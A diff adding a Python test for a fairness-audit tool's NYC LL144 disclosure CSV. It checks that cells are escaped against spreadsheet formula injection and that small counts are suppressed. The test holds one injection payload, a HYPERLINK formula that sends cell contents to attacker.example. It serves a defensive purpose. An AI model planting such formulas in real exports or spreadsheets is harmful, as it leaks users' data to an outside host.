@@ -366,3 +366,52 @@ def test_rules_for_one_alias_only_do_not_open_the_others(tmp_path: Path) -> None
     for alias in ("production", "prodution", "staging"):
         problems = required_audit_problems(client, ref, alias, lenient, digest="abc", rules=rules)
         assert any("strict's newest audit" in p and "'fail'" in p for p in problems), alias
+
+
+# --- the LL144 disclosure CSV -------------------------------------------------------------
+
+
+def test_the_ll144_csv_holds_no_formula_and_no_small_count(tmp_path: Path, fairgate) -> None:
+    """The LL144 CSV wrote its cells as given: a data source (or a column) starting with '='
+    was a live formula in a spreadsheet, unlike the transparency CSV's cells."""
+    import csv
+    import io
+
+    import numpy as np
+    import pandas as pd
+
+    rng = np.random.default_rng(3)
+    cells = [("F", "a", 300), ("M", "b", 300), ("F", "c", 6)]
+    frame = pd.DataFrame(
+        [(sex, race) for sex, race, n in cells for _ in range(n)], columns=["sex", "-race"]
+    )
+    frame["outcome"] = rng.integers(0, 2, len(frame))
+    frame["decision"] = rng.integers(0, 2, len(frame))
+    frame.to_csv(tmp_path / "log.csv", index=False)
+    source = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    spec = log_spec(
+        tmp_path / "log.csv",
+        policy="nyc-ll144",
+        roles={"race_ethnicity": "-race"},
+        data={"sensitive": ["sex", "-race"]},
+        checks=[],
+        deployment={
+            "purpose": "ranks applicants for interviews",
+            "context": "workplace",
+            "data_source": source,
+        },
+    )
+    out = tmp_path / "out"
+    code, _, err = fairgate(
+        "run", write_yaml(tmp_path / "spec.yaml", spec), "--no-mlflow", "--out", out
+    )
+    assert code in (0, 2), err
+    text = (out / "ll144_disclosure.csv").read_text()
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) > 4
+    for row in rows:
+        for cell in row:
+            assert cell[:1] not in ("=", "+", "-", "@"), row
+    assert any(cell == "'" + source for row in rows for cell in row)
+    assert any(row[0] == "'-race=c" and row[1] == "suppressed" for row in rows), rows
+    assert not any(row[1] == "6" for row in rows)
